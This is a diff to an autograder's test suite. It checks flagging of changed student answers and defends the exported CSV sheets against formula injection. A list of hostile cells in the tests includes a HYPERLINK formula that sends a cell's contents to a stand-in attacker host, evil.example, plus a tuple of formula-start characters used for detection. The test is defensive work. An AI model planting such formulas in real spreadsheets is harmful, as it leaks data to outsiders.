@@ -210,8 +210,12 @@ def test_sheets_show_every_answer_side_by_side(root):
     assert "[image: tracker]" in derivation and "example.org" not in derivation
     with open(out / "why.csv", newline="") as handle:
         rows = list(csv.reader(handle))
-    assert rows[0] == ["student", "question", "points", "max_points", "comment"]
-    assert sorted(rows[1:]) == [[s, "why", "", "1", ""] for s in sorted(ANSWERS)]
+    assert rows[0] == ["student", "question", "points", "max_points", "comment",
+                       "answer_changed", "answer_digest"]
+    assert sorted(row[:6] for row in rows[1:]) == [[s, "why", "", "1", "", ""]
+                                                   for s in sorted(ANSWERS)]
+    digests = {row[0]: row[6] for row in rows[1:]}  # the version of each answer shown
+    assert len(set(digests.values())) == 3 and all(len(d) == 16 for d in digests.values())
 
 
 def test_import_puts_manual_points_in_the_totals(root, capsys):
@@ -293,6 +297,131 @@ def test_regrading_the_code_keeps_the_manual_points(root):
     grade(root, root / "graded")
     assert (root / "graded" / "manual.json").read_bytes() == manual
     check_totals(grades(root))
+    assert all(row["manual_stale"] == "" for row in grades(root).values())  # same answers
+
+
+def resubmit(root: Path, student: str, changes: dict[str, str]) -> None:
+    """The student hands in again, with the cells named in `changes` ({grade_id or "plot"
+    for the `# plot` cell: new source}) rewritten, and the course regrades everyone."""
+    path = root / "submissions" / f"{student}.ipynb"
+    notebook = nbformat.read(path, as_version=4)
+    for cell in notebook.cells:
+        key = nb.grade_id(cell) or ("plot" if cell.source.startswith("# plot") else None)
+        if key in changes:
+            cell.source = changes[key]
+    nbformat.write(notebook, path)
+    grade(root, root / "graded")
+
+
+def sheet_rows(out: Path, question: str) -> dict[str, dict]:
+    with open(out / f"{question}.csv", newline="") as handle:
+        return {row["student"]: row for row in csv.DictReader(handle)}
+
+
+def test_a_changed_answer_keeps_its_points_but_is_flagged_until_re_read(root, capsys):
+    import_all(root)
+    resubmit(root, "bob", {"why": "Because a square is a product of two equal factors."})
+    resubmit(root, "alice", {"plot": "# plot\nplt.plot(x, -x ** 2)"})  # the plot she shows
+    rows = grades(root)
+    assert (rows["bob"]["manual_stale"], rows["alice"]["manual_stale"]) == ("why", "why")
+    assert rows["carol"]["manual_stale"] == ""
+    # the points stay in the totals until the grader looks again; other answers unflagged
+    assert float(rows["bob"]["total"]) == 0.5 and float(rows["alice"]["total"]) == 5
+    assert rows["bob"]["why"] == "0.5" and rows["alice"]["derivation"] == "2"
+    capsys.readouterr()
+    out = sheets(root)
+    printed = capsys.readouterr().out
+    assert "RE-READ bob / why: the answer changed since it was graded (0.5 points kept" in (
+        printed)
+    assert "RE-READ alice / why" in printed and "/ derivation" not in printed
+    page = (out / "why.html").read_text()
+    assert page.count("<div class='stale'>") == 2 and "Because a square is a product" in page
+    assert "2 answers changed since graded" in (out / "index.html").read_text()
+    flagged = sheet_rows(out, "why")
+    assert [flagged[s]["answer_changed"] for s in ("alice", "bob", "carol")] == ["yes", "yes", ""]
+    # importing the sheet as it is confirms nothing: nobody re-read these answers
+    assert main(["manual", "import", str(root / "graded"), str(out / "why.csv")]) == 0
+    assert "RE-READ bob / why" in capsys.readouterr().out
+    assert grades(root)["bob"]["manual_stale"] == "why"
+    # re-read: bob gets new points, alice keeps hers (answer_changed emptied)
+    rows = [[flagged[s][c] for c in COLUMNS] for s in ("alice", "bob")]
+    rows[0][5] = ""
+    rows[1][2:6] = ["1", "1", "better now", "yes"]
+    assert main(["manual", "import", str(root / "graded"), str(fill(root / "re.csv", rows))]) == 0
+    assert "RE-READ" not in capsys.readouterr().out
+    rows = grades(root)
+    assert (rows["alice"]["manual_stale"], rows["bob"]["manual_stale"]) == ("", "")
+    assert (rows["alice"]["why"], rows["bob"]["why"]) == ("1", "1")
+
+
+def test_points_entered_on_a_sheet_of_an_earlier_answer_are_flagged(root, capsys):
+    out = sheets(root)  # carol's empty stub is on this sheet
+    resubmit(root, "carol", {"why": "Squares of reals are non-negative."})
+    row = [sheet_rows(out, "why")["carol"][c] for c in COLUMNS]
+    row[2] = "0"  # graded the empty answer the sheet showed
+    assert main(["manual", "import", str(root / "graded"), str(fill(root / "c.csv", [row]))]) == 0
+    assert "RE-READ carol / why" in capsys.readouterr().out
+    assert grades(root)["carol"]["manual_stale"] == "why"
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1 for effort",
+                 "-1: units missing", "@SUM(A1:A9)", "'a quote, no formula", "=1+1\nsecond line"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cells(path: Path) -> list[str]:
+    with open(path, newline="") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def _stored(root: Path, key: str) -> dict:
+    grades = json.loads((root / "graded" / "manual.json").read_text())["grades"]
+    return {student: {q: entry[key] for q, entry in given.items()}
+            for student, given in grades.items()}
+
+
+def test_no_csv_cell_starts_like_a_formula_and_comments_round_trip(root):
+    """OWASP's CSV injection rule for every CSV a spreadsheet may open; the sheets read
+    back as the grader typed them."""
+    graded = root / "graded"
+    result = json.loads((graded / "results" / "bob.json").read_text())
+    result["student"] = "-bob"  # a safe file name may start with - or @
+    (graded / "results" / "-bob.json").write_text(json.dumps(result))
+    (graded / "results" / "bob.json").unlink()
+    (graded / "executed" / "bob.ipynb").rename(graded / "executed" / "-bob.ipynb")
+    students = ("alice", "-bob", "carol")
+    expected = {student: {"why": HOSTILE_CELLS[2 * i], "derivation": HOSTILE_CELLS[2 * i + 1]}
+                for i, student in enumerate(students)}
+    rows = [[student, question, "1" if question == "why" else "2", "", comment]
+            for student, given in expected.items() for question, comment in given.items()]
+    assert main(["manual", "import", str(graded), str(fill(root / "s.csv", rows))]) == 0
+    assert _stored(root, "comment") == expected
+    out = sheets(root)
+    export_grades(graded, root / "export", formats=("csv",))
+    for path in (out / "why.csv", out / "derivation.csv", graded / "grades.csv",
+                 root / "export" / "gradebook.csv"):
+        for cell in _csv_cells(path):
+            assert not cell.startswith(FORMULA_START), (path.name, cell)
+    assert "'-bob" in _csv_cells(graded / "grades.csv")
+    assert "'" + HOSTILE_CELLS[0] in _csv_cells(out / "why.csv")
+    assert "'a quote, no formula" in _csv_cells(out / "why.csv")  # left as it is
+    assert "'=1+1\nsecond line" in _csv_cells(out / "derivation.csv")
+    # the regenerated sheets, imported again, change nothing
+    points = _stored(root, "points")
+    assert main(["manual", "import", str(graded), str(out / "why.csv"),
+                 str(out / "derivation.csv")]) == 0
+    assert (_stored(root, "comment"), _stored(root, "points")) == (expected, points)
+
+
+@pytest.mark.parametrize("text", ["", "a", "1", "-0.5", "'", "''", "'a", "=", "'=", "''=x",
+                                  "\tx", "\rx", "@", "+", "é=", " =x"])
+def test_the_formula_guard_is_undone_exactly(text):
+    from ssl_keras_autograder.gradebook import from_spreadsheet_text, spreadsheet_text
+
+    written = spreadsheet_text(text)
+    assert not written.startswith(FORMULA_START)
+    assert from_spreadsheet_text(written) == text
+    assert written == ("'" + text if text.lstrip("'").startswith(FORMULA_START) else text)
 
 
 def _digest(path: Path) -> str:
